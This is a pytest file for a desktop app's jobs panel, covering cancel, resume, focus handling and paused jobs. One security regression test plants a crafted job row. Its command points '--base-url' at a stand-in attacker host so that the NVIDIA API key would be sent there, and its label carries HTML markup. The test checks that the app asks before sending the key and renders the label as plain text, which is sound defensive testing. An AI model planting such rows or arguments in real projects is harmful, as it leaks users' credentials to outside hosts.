"""The jobs panel: this window's operations and every other process's jobs, with Cancel and Resume."""

import json
import os
import signal
import subprocess
import sys
import textwrap
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest
from job_functions import one_request_out
from PySide6.QtCore import Qt
from support import gmmlu_rows, write_csv

from spokenbench.app import jobs as app_jobs
from spokenbench.app.main_window import MainWindow
from spokenbench.app.operations import JobOp
from spokenbench.core.foundation.errors import Cancelled
from spokenbench.core.importers import import_files
from spokenbench.core.jobs.registry import tracked_job
from spokenbench.core.store import Project
from spokenbench.widgets.jobs_panel import LIVE_STATES, STATES, JobRow, JobsPanel, progress_text


@pytest.fixture
def studio(qtbot, project):
    """The main window with an empty project open, polling five times a second."""
    window = MainWindow(poll_interval_s=0.2)
    qtbot.addWidget(window)
    window.show()
    with qtbot.waitSignal(window.open_project(project.path).finished, timeout=10_000):
        pass
    assert window.session is not None
    yield window
    window.shutdown()


def card_titled(window, title):
    return next((card for card in window.jobs_panel.cards.values() if card.row.title == title), None)


@pytest.mark.slow
def test_a_job_started_in_another_thread_appears_within_two_seconds(studio, qtbot, project):
    stop = threading.Event()
    started = threading.Event()

    def job():
        with tracked_job(project.path, "synthesize", "Synthesizing 40 clips", total=40) as progress:
            progress.report(5, 40, "clip 5 of 40")
            started.set()
            while not stop.wait(0.05):
                pass

    thread = threading.Thread(target=job)
    thread.start()
    try:
        assert started.wait(5)
        qtbot.waitUntil(lambda: card_titled(studio, "Synthesizing 40 clips") is not None, timeout=2_000)
        row = card_titled(studio, "Synthesizing 40 clips").row
        assert row.state == "running" and row.action == "cancel" and row.action_enabled
        assert row.origin == "synthesize · this window"  # a thread of this process
        qtbot.waitUntil(lambda: "Jobs · 1 running" in studio.jobs_button.text(), timeout=3_000)
    finally:
        stop.set()
        thread.join(10)


KILLED_CLI_JOBS = textwrap.dedent(
    """
    import sys, time
    from spokenbench.core.jobs import registry as jobs
    jobs.set_invocation(["synthesize", sys.argv[1], "--tts", "espeak"])
    with jobs.tracked_job(sys.argv[1], "synthesize", "Synthesizing with espeak", total=100) as progress:
        progress.report(30, 100, "clip 30")
        jobs.set_invocation(None)
        with jobs.tracked_job(sys.argv[1], "custom", "A script's own job"):
            print("started", flush=True)
            time.sleep(60)
    """
)


@pytest.mark.slow
def test_a_job_whose_process_died_shows_as_interrupted_with_resume(studio, qtbot, project, monkeypatch):
    process = subprocess.Popen(
        [sys.executable, "-c", KILLED_CLI_JOBS, str(project.path)], stdout=subprocess.PIPE, text=True
    )
    assert process.stdout.readline().strip() == "started"
    os.kill(process.pid, signal.SIGKILL)
    process.wait(10)
    qtbot.waitUntil(lambda: card_titled(studio, "A script's own job") is not None, timeout=3_000)
    qtbot.waitUntil(lambda: card_titled(studio, "Synthesizing with espeak").row.state == "interrupted", timeout=3_000)
    resumable = card_titled(studio, "Synthesizing with espeak")
    assert resumable.row.action == "resume" and resumable.button.isEnabled() and resumable.button.text() == "Resume"
    assert "spokenbench synthesize" in resumable.button.toolTip()
    script_job = card_titled(studio, "A script's own job")
    assert script_job.row.state == "interrupted" and not script_job.button.isEnabled()
    assert script_job.row.origin == f"custom · pid {process.pid}"
    assert "cannot" in script_job.button.toolTip().lower() or "only" in script_job.button.toolTip()

    spawned = []
    monkeypatch.setattr(app_jobs.subprocess, "Popen", lambda argv, **options: spawned.append((argv, options)))
    qtbot.mouseClick(resumable.button, Qt.MouseButton.LeftButton)
    box = studio.jobs.confirmation  # what will run is shown first; no key goes anywhere, so Resume is the default
    assert "spokenbench synthesize" in box.informativeText() and "talks to no remote service" in box.informativeText()
    qtbot.keyClick(box, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: len(spawned) == 1, timeout=2_000)
    [(argv, options)] = spawned
    assert argv == [
        sys.executable,
        "-P",
        "-m",
        "spokenbench.core.cli.main",
        "synthesize",
        str(project.path.resolve()),
        "--tts=espeak",
    ]
    assert options["start_new_session"] is True and options["stdin"] == subprocess.DEVNULL
    assert card_titled(studio, "Synthesizing with espeak").row.state == "resuming"


@pytest.mark.slow
def test_cancel_in_the_panel_stops_a_job_of_another_thread(studio, qtbot, project):
    outcome = []
    steps = []

    def job():
        try:
            with tracked_job(project.path, "evaluate", "Evaluating simulated:steady", total=10_000) as progress:
                for step in range(10_000):
                    progress.check_cancelled()
                    progress.report(step, 10_000, f"condition {step}")
                    steps.append(step)
                    time.sleep(0.005)
        except Cancelled:
            outcome.append("cancelled")
        else:
            outcome.append("finished")

    thread = threading.Thread(target=job)
    thread.start()
    try:
        qtbot.waitUntil(lambda: card_titled(studio, "Evaluating simulated:steady") is not None, timeout=3_000)
        card = card_titled(studio, "Evaluating simulated:steady")
        qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
        thread.join(5)
        assert outcome == ["cancelled"] and len(steps) < 10_000
    finally:
        thread.join(10)
    with Project.open(project.path) as check:
        row = check.conn.execute("SELECT status, cancel_requested FROM jobs").fetchone()
    assert tuple(row) == ("cancelled", 1)
    qtbot.waitUntil(lambda: card_titled(studio, "Evaluating simulated:steady").row.state == "cancelled", timeout=3_000)


@pytest.mark.slow
def test_a_job_of_another_thread_waiting_for_a_request_already_sent_offers_stop_now(studio, qtbot, project, tmp_path):
    outcome = []
    marker = tmp_path / "sent"

    def job():
        try:
            with tracked_job(project.path, "evaluate", "Evaluating vllm:stub") as progress:
                one_request_out(project, str(marker), 60.0, progress=progress)
        except Cancelled:
            outcome.append("cancelled")

    thread = threading.Thread(target=job)
    thread.start()
    try:
        qtbot.waitUntil(lambda: marker.exists() and card_titled(studio, "Evaluating vllm:stub") is not None)
        card = card_titled(studio, "Evaluating vllm:stub")
        assert card.button.text() == "Cancel"
        qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
        qtbot.waitUntil(lambda: card.button.text() == "Stop Now", timeout=5_000)
        assert card.row.state == "cancelling" and card.button.isEnabled()
        assert card.detail.text() == "stopping: waiting for the answers to 1 request(s) already sent (paid for)"
        assert thread.is_alive()  # the cancel waits for the answer
        qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
        thread.join(5)
        assert outcome == ["cancelled"]
    finally:
        thread.join(70)
    with Project.open(project.path) as check:
        row = check.conn.execute("SELECT status, cancel_requested FROM jobs").fetchone()
    assert tuple(row) == ("cancelled", 2)  # Stop Now: asked to abandon the request


@pytest.mark.slow
def test_this_windows_job_is_listed_once_and_cancels_without_importing_anything(studio, qtbot, project, tmp_path):
    table = write_csv(tmp_path / "en.csv", gmmlu_rows(5_000))
    writing = threading.Event()
    cancelled = threading.Event()

    def import_items(project_view, progress):
        def hold(done, total, message):
            progress.report(done, total, message)
            if message.startswith("writing") and done >= 2_000:
                writing.set()
                cancelled.wait(10)

        return import_files(project_view, [table], "gmmlu-lite", progress=progress.sub_task(hold))

    operation = JobOp(studio.session, import_items, kind="import", changes={"items"}, label="Importing en.csv")
    operation.run()
    qtbot.waitUntil(writing.is_set, timeout=10_000)
    qtbot.waitUntil(lambda: card_titled(studio, "Importing en.csv") is not None, timeout=2_000)
    qtbot.wait(600)  # a monitor poll has seen the job's own row in the jobs table
    titles = [row.title for row in studio.jobs_panel.rows]
    assert titles.count("Importing en.csv") == 1
    card = card_titled(studio, "Importing en.csv")
    assert card.row.origin == "this window" and card.row.total == 5_000
    qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
    cancelled.set()
    with qtbot.waitSignal(operation.finished, timeout=10_000):
        pass
    assert operation.status == "cancelled"
    with Project.open(project.path) as check:
        assert check.conn.execute("SELECT count(*) FROM items").fetchone()[0] == 0
    assert not list(project.path.glob(".import-staging*"))


@pytest.mark.slow
def test_the_panel_shows_progress_and_time_left_and_an_empty_state(qtbot):
    panel = JobsPanel()
    qtbot.addWidget(panel)
    assert panel.empty.isVisibleTo(panel)
    row = JobRow(key="a", title="Importing", done=5_000, total=20_000, eta_s=75, action="cancel")
    assert progress_text(row) == "5,000 / 20,000 · 25 % · 1:15 left"
    panel.set_rows([row, JobRow(key="b", title="Old run", state="interrupted", action="resume")])
    assert [r.key for r in panel.rows] == ["a", "b"] and not panel.empty.isVisibleTo(panel)
    first_card = panel.cards["a"]
    panel.set_rows([JobRow(key="a", title="Importing", done=6_000, total=20_000)])
    assert panel.cards["a"] is first_card and first_card.bar.value() == 6_000  # updated in place
    assert panel.live_count() == 1
    panel.set_rows([])
    assert panel.cards == {} and panel.empty.isVisibleTo(panel)


def test_the_keyboard_stays_in_the_panel_when_the_card_it_was_on_goes(qtbot):
    """The Xvfb walk: Ctrl+J put the keys on the first card, that job ended and its card went, and Esc no longer
    reached the panel. Now the next card (or the list, when none is left) takes the keys."""
    from PySide6.QtWidgets import QApplication

    panel = JobsPanel()
    qtbot.addWidget(panel)
    panel.show()
    panel.activateWindow()
    qtbot.waitExposed(panel)
    rows = [JobRow(key="a", title="Recomputing"), JobRow(key="b", title="Run 15", state="finished")]
    panel.set_rows(rows)
    qtbot.waitUntil(lambda: QApplication.activeWindow() is panel and panel.cards["a"].isVisible(), timeout=2_000)
    panel.take_focus()
    qtbot.waitUntil(lambda: QApplication.focusWidget() is panel.cards["a"], timeout=2_000)
    panel.set_rows(rows[1:])
    qtbot.waitUntil(lambda: QApplication.focusWidget() is panel.cards["b"], timeout=2_000)
    panel.set_rows([])
    qtbot.waitUntil(lambda: panel.isAncestorOf(QApplication.focusWidget()), timeout=2_000)


def test_the_keyboard_stays_on_the_card_when_its_button_is_disabled_under_it(qtbot):
    """The Xvfb walk: Tab to a run's Cancel, Space; the button, disabled while the job takes the cancel in, lost
    the keys, and Esc no longer reached the panel. Then Stop Now, then Resume, came up on a card without them."""
    from PySide6.QtWidgets import QApplication

    panel = JobsPanel()
    qtbot.addWidget(panel)
    panel.show()
    panel.activateWindow()
    qtbot.waitExposed(panel)
    running, ended = JobRow(key="a", title="Run 15", action="cancel"), JobRow(key="b", title="Run 14", state="finished")
    panel.set_rows([running, ended])
    card = panel.cards["a"]
    qtbot.waitUntil(lambda: QApplication.activeWindow() is panel and card.isVisible(), timeout=2_000)
    card.button.setFocus()
    qtbot.waitUntil(lambda: QApplication.focusWidget() is card.button, timeout=2_000)
    panel.set_rows([replace(running, state="cancelling", action_enabled=False), ended])  # the cancel asked
    qtbot.waitUntil(lambda: QApplication.focusWidget() is not card.button, timeout=2_000)
    assert QApplication.focusWidget() is card  # the same card, not the next one or the page under the panel
    panel.set_rows([replace(running, state="cancelling", action="stop_now"), ended])
    assert card.button.text() == "Stop Now" and card.button.isEnabled()
    assert QApplication.focusWidget() is card.button  # the cancel's next step has the keys: Space stops now
    panel.set_rows([replace(running, state="cancelling", action="stop_now", action_enabled=False), ended])
    assert QApplication.focusWidget() is card
    panel.set_rows([replace(running, state="cancelled", action="resume"), ended])
    assert QApplication.focusWidget() is card  # never Resume, which a second Space would press
    card.button.setFocus()  # the job ended before Stop Now was seen: Stop Now turns into Resume at once
    panel.set_rows([replace(running, state="cancelling", action="stop_now"), ended])
    panel.set_rows([replace(running, state="cancelled", action="resume"), ended])
    assert QApplication.focusWidget() is card
    card.button.setFocus()  # Tab to Resume: the panel's refreshes (every second) leave the keys there
    qtbot.waitUntil(lambda: QApplication.focusWidget() is card.button, timeout=2_000)
    panel.set_rows([replace(running, state="cancelled", action="resume"), ended])
    assert QApplication.focusWidget() is card.button


def _crafted_job(project, kind, argv, label, cwd=None):
    """A jobs row as the sender of a project folder could write it: 'running' by a process that is gone."""
    from spokenbench.core.foundation.processes import THIS_HOST
    from spokenbench.core.store import database

    now = database.utc_now()
    with database.transaction(project.conn) as conn:
        conn.execute(
            "INSERT INTO jobs(kind, label, project, pid, host, argv_json, cwd, started_at, heartbeat_at) "
            "VALUES (?, ?, '/elsewhere', 999999999, ?, ?, ?, ?, ?)",
            (kind, label, THIS_HOST, json.dumps(argv), cwd, now, now),
        )


@pytest.mark.slow
def test_resume_of_a_crafted_row_asks_before_sending_a_key_to_a_new_host(studio, qtbot, project, monkeypatch, tmp_path):
    """Issue 23: a crafted 'interrupted' rewrite with --base-url http://attacker used to run on Resume and send the
    NVIDIA key there. Now a dialog shows the command, the host and the key; Return and Escape (Cancel is the
    default) start nothing; only choosing 'Send key and resume' does — with the rebuilt command, in the project's
    folder, never the row's."""
    planted = tmp_path / "planted"
    planted.mkdir()
    argv = ["rewrite", "/elsewhere", "--base-url", "http://attacker.example/v1", "--model", "m"]
    _crafted_job(project, "rewrite", argv, "Rewrite (interrupted)<h1>Safe: no key is sent</h1>", cwd=str(planted))
    _crafted_job(project, "voices", ["voices", "P", "--classifier", "os:system"], "Voice check (interrupted)")
    spawned = []
    monkeypatch.setattr(app_jobs.subprocess, "Popen", lambda argv, **options: spawned.append((argv, options)))
    qtbot.waitUntil(lambda: card_titled(studio, "Voice check (interrupted)") is not None, timeout=3_000)
    refused = card_titled(studio, "Voice check (interrupted)")
    assert not refused.button.isEnabled() and "only evaluate, rewrite" in refused.button.toolTip()

    card = card_titled(studio, "Rewrite (interrupted)<h1>Safe: no key is sent</h1>")
    assert card.button.isEnabled()
    for key in (Qt.Key.Key_Return, Qt.Key.Key_Escape):
        qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
        box = studio.jobs.confirmation
        assert box is not None and box.isVisible()
        shown = box.informativeText()
        assert "NVIDIA_API_KEY" in shown and "attacker.example" in shown and "has not sent a key" in shown
        assert box.defaultButton().text() == "Cancel"
        assert box.textFormat() == Qt.TextFormat.PlainText and "<h1>" in box.text(), "stored text is never markup"
        qtbot.keyClick(box, key)
        qtbot.waitUntil(lambda: studio.jobs.confirmation is None, timeout=2_000)
        assert spawned == [], f"{key} started the job"
        card = card_titled(studio, "Rewrite (interrupted)<h1>Safe: no key is sent</h1>")

    qtbot.mouseClick(card.button, Qt.MouseButton.LeftButton)
    box = studio.jobs.confirmation
    send = next(b for b in box.buttons() if b.text() == "Send key and resume")
    send.setFocus()
    qtbot.keyClick(send, Qt.Key.Key_Space)
    qtbot.waitUntil(lambda: len(spawned) == 1, timeout=2_000)
    [(command, options)] = spawned
    assert command[1:4] == ["-P", "-m", "spokenbench.core.cli.main"]
    assert command[4:] == ["rewrite", str(project.path.resolve()), "--base-url=http://attacker.example/v1", "--model=m"]
    assert Path(options["cwd"]) == project.path and Path(options["cwd"]) != planted
    from spokenbench.core.cli.resume import ApprovedHosts

    assert ApprovedHosts().knows("attacker.example"), "approved on this machine, not in the project"


def test_a_command_line_job_stopped_with_ctrl_c_and_waiting_offers_stop_now():
    """Ctrl-C in its own terminal writes no cancel request: its message says it waits for answers already sent."""
    from spokenbench.core.foundation.processes import THIS_HOST
    from spokenbench.core.jobs.loop import WAITING_FOR_SENT
    from spokenbench.core.jobs.registry import JobInfo

    job = JobInfo(
        id=7, kind="evaluate", label="Run 7", claim="run:7", project="p", pid=4242, host=THIS_HOST, argv=None,
        cwd=None, started_at="", heartbeat_at="", finished_at=None, done=3, total=12,
        message=f"{WAITING_FOR_SENT} 4 request(s) already sent (paid for)", status="running", stop_reason=None,
        cancel_requested=False, heartbeat_age_s=0.5,
    )  # fmt: skip
    row = app_jobs.job_row(job)
    assert (row.state, row.action, row.action_enabled) == ("cancelling", "stop_now", True)
    asked = app_jobs.job_row(replace(job, cancel_requested=True, stop_now_requested=True))
    assert (asked.action, asked.action_enabled) == ("stop_now", False)


def test_a_job_waiting_for_room_on_a_full_disk_is_paused_not_offered_for_resuming():
    """Its heartbeat stopped because the disk is full; its process is alive and goes on once there is room: a
    Resume would start a second job competing for the same units."""
    from spokenbench.core.foundation.processes import THIS_HOST
    from spokenbench.core.jobs.registry import PAUSED_FOR_ROOM, JobInfo

    job = JobInfo(
        id=7, kind="evaluate", label="Run 7", claim="run:7", project="p", pid=4242, host=THIS_HOST,
        argv=["evaluate", "p"], cwd=None, started_at="", heartbeat_at="", finished_at=None, done=3, total=12,
        message="2.0/s", status="interrupted", cancel_requested=False, heartbeat_age_s=17.0,
        stop_reason=f"{PAUSED_FOR_ROOM}: no heartbeat for 17 s; it goes on once there is room: free some space",
    )  # fmt: skip
    row = app_jobs.job_row(job)
    assert (row.state, row.action) == ("paused", None)
    assert row.detail.startswith("paused: the disk is full") and "free some space" in row.detail
    assert STATES["paused"][0] == "Paused" and "paused" in LIVE_STATES
    stopped = app_jobs.job_row(replace(job, stop_reason="stopped without finishing (no heartbeat for 17 s)"))
    assert (stopped.state, stopped.action) == ("interrupted", "resume")
